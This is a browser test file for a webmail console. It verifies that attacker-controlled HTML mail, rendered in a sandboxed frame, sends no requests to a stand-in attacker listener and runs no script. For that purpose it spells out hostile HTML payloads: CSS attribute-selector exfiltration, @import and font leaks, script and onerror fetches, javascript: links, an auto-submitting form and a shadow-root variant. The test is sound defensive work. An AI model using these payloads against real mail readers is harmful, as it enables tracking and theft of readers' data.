import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { hasChromium, launchChromium, type Browser } from './support/chromium.js';
import { startConsoleServer, type ConsoleServer } from './support/console-server.js';
import { startListener } from './support/listener.js';
import { mailFromOutside } from './support/mail.js';
import { deliverToMx } from '../smtp/mx-peer.js';

/**
 * HTML mail is attacker-controlled. Rendered in the console it must not run script, submit a
 * form, navigate, or load anything from the network (tracking pixels, CSS exfiltration through
 * attribute selectors, @import, fonts) unless the person clicks "Load remote images", and even
 * then only images. A local HTTP listener stands in for the attacker and counts what reaches it.
 */
const hostileHtml = (h: string) => `<html><head>
<meta http-equiv="refresh" content="0;url=${h}/meta-refresh">
<link rel="stylesheet" href="${h}/link.css"><link rel="prefetch" href="${h}/prefetch"><link rel="preload" as="image" href="${h}/preload">
<base href="${h}/base/">
<style>
@import url("${h}/import.css");
@font-face { font-family: leak; src: url(${h}/font.woff2); }
body { font-family: leak; }
input[value^="s"] { background: url(${h}/exfil-starts-with-s); }
</style>
<script>fetch('${h}/script-fetch'); new Image().src = '${h}/script-img'; parent.document.title = 'pwned'; alert(1);</script>
</head><body onload="fetch('${h}/onload')">
<p>Totally normal newsletter</p>
<img src="${h}/pixel.gif" alt="pixel"><img src="relative.png">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline">
<img src="x" onerror="fetch('${h}/onerror')">
<svg><image href="${h}/svg-image"/></svg>
<iframe src="${h}/iframe"></iframe>
<object data="${h}/object"></object><embed src="${h}/embed">
<video poster="${h}/poster"><source src="${h}/video"></video><audio src="${h}/audio" autoplay></audio>
<form action="${h}/form" method="post"><input name="secret" value="s3cret" autofocus onfocus="this.form.submit()"><button id="go">Go</button></form>
<a id="js" href="javascript:fetch('${h}/js-href')">click me</a>
<div style="background-image:url(${h}/inline-style)">styled</div>
<table background="${h}/table-bg"><tr><td>cell</td></tr></table>
<input type="image" src="${h}/input-image">
</body></html>`;

let server: ConsoleServer;
let browser: Browser;
let page: Page;
let attacker: Awaited<ReturnType<typeof startListener>>;
const dialogs: string[] = [];
const problems: string[] = [];

describe.skipIf(!hasChromium)('hostile HTML mail in the console', () => {
  beforeAll(async () => {
    attacker = await startListener();
    server = await startConsoleServer();
    browser = await launchChromium();
    page = await browser.context.newPage();
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('pageerror', (e) => problems.push(e.message));
    await page.goto(`${server.url}/`);
    await page.getByLabel('Address').fill('agent@example.test');
    await page.getByLabel('Password', { exact: true }).fill('agent-password-123');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.locator('.live.live').waitFor({ timeout: 15_000 });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await attacker?.close();
  });

  it('renders it with no request to any other host, no script, no dialog, no navigation', async () => {
    await mailFromOutside(server.ports.mx, 'agent@example.test', 'Your weekly digest', {
      html: hostileHtml(attacker.origin),
    });
    await page.getByRole('link', { name: 'Your weekly digest' }).click();
    const frame = page.frameLocator('iframe[title="Message body"]');
    await frame.getByText('Totally normal newsletter').waitFor();
    // Interactions a curious reader might try: focus and submit the form, follow the script link.
    await frame
      .locator('#go')
      .click({ timeout: 2_000 })
      .catch(() => undefined);
    await frame
      .locator('#js')
      .click({ timeout: 2_000 })
      .catch(() => undefined);
    await page.waitForTimeout(2_000);
    expect(attacker.hits).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await page.title()).not.toBe('pwned');
    expect(page.url()).toMatch(/#\/message\//);
    const sandbox = await page.locator('iframe[title="Message body"]').getAttribute('sandbox');
    expect(sandbox?.split(/\s+/).sort()).toEqual(['allow-popups', 'allow-popups-to-escape-sandbox']);
    // The frame's document is opaque-origin: it cannot reach the console's storage or token.
    const frameOrigin = await page.frames()[1]!.evaluate(() => {
      try {
        return sessionStorage.length >= 0 ? 'storage readable' : 'none';
      } catch {
        return 'opaque';
      }
    });
    expect(frameOrigin).toBe('opaque');
    expect(problems).toEqual([]);
  });

  it('loads remote images, and only images, once the reader asks', async () => {
    await page.getByRole('button', { name: 'Load remote images' }).click();
    await expect.poll(() => attacker.hits.includes('/pixel.gif'), { timeout: 10_000 }).toBe(true);
    await page.waitForTimeout(1_000);
    const forbidden = attacker.hits.filter((h) =>
      /script|onload|onerror|form|meta-refresh|iframe|object|embed|import|font|link\.css|prefetch|js-href|video|audio/.test(
        h,
      ),
    );
    expect(forbidden).toEqual([]);
    expect(dialogs).toEqual([]);
  });

  it('cleans inside a declarative shadow root (<template shadowrootmode>) as everywhere else', async () => {
    const h = attacker.origin;
    await mailFromOutside(server.ports.mx, 'agent@example.test', 'Shadow digest', {
      html:
        `<p>Shadow newsletter</p><div id="host"><template shadowrootmode="open"><p>inside the shadow</p>` +
        `<img src="x" onerror="fetch('${h}/shadow-onerror')"><script>fetch('${h}/shadow-script')</script>` +
        `<iframe src="${h}/shadow-iframe"></iframe><a href="javascript:fetch('${h}/shadow-js')">x</a></template></div>`,
    });
    // Back to the inbox (the folder list lives beside the message list, not on a message's page).
    await page.evaluate("location.hash = '#/inbox'");
    await page.getByRole('link', { name: 'Shadow digest' }).click({ timeout: 15_000 });
    const frame = page.frameLocator('iframe[title="Message body"]');
    await frame.getByText('Shadow newsletter').waitFor();
    const srcdoc = (await page.locator('iframe[title="Message body"]').getAttribute('srcdoc')) ?? '';
    expect(srcdoc).toContain('Shadow newsletter');
    for (const banned of ['onerror', '<script', '<iframe', 'javascript:', 'shadowrootmode'])
      expect(srcdoc, banned).not.toContain(banned);
    // The template stays inert: no shadow root was attached to its host.
    const body = page.frames().find((f) => f !== page.mainFrame())!;
    expect(await body.evaluate("document.getElementById('host').shadowRoot === null")).toBe(true);
    await page.waitForTimeout(1_000);
    expect(attacker.hits.filter((hit) => hit.startsWith('/shadow'))).toEqual([]);
    expect(dialogs).toEqual([]);
  });

  it('shows an inline image the message carries (cid:) from its own part; a cid it lacks loads nothing', async () => {
    // A 1x1 PNG as the related part of a multipart/related message, named by Content-ID.
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    const raw = [
      'From: Peer <peer@sender.example>',
      'To: agent@example.test',
      'Subject: Logo inside',
      'Message-ID: <cid-test@sender.example>',
      `Date: ${new Date().toUTCString()}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; boundary="rel"',
      '',
      '--rel',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<p>With a logo</p><img id="logo" src="cid:logo@sender.example" alt="logo"><img id="absent" src="cid:absent@sender.example" alt="absent"><img id="far" src="${attacker.origin}/far.png">`,
      '--rel',
      'Content-Type: image/png',
      'Content-Transfer-Encoding: base64',
      'Content-ID: <logo@sender.example>',
      'Content-Disposition: inline; filename="logo.png"',
      '',
      png,
      '--rel--',
      '',
    ].join('\r\n');
    await deliverToMx(server.ports.mx, { from: 'peer@sender.example', to: 'agent@example.test' }, raw);
    await page.evaluate("location.hash = '#/inbox'");
    await page.getByRole('link', { name: 'Logo inside' }).click({ timeout: 15_000 });
    // The frame is found by its title at each look: the first frame that is not the main one may be
    // the previous message's, still leaving (sandboxed frames live in their own process).
    const frame = page.frameLocator('iframe[title="Message body"]');
    await frame.getByText('With a logo').waitFor();
    // naturalWidth with the src it came from, so a failure says whether the part was ever handed over.
    const shown = (id: string) =>
      frame.locator(`#${id}`).evaluate((img) => {
        const el = img as unknown as { naturalWidth: number; getAttribute(name: string): string | null };
        return `${el.naturalWidth} ${el.getAttribute('src')?.slice(0, 22)}`;
      });
    await expect.poll(() => shown('logo'), { timeout: 10_000 }).toBe('1 data:image/png;base64,');
    expect(await shown('absent')).toBe('0 cid:absent@sender.exam');
    await page.waitForTimeout(500);
    expect(attacker.hits.filter((h) => h.includes('far.png'))).toEqual([]);
  });
});
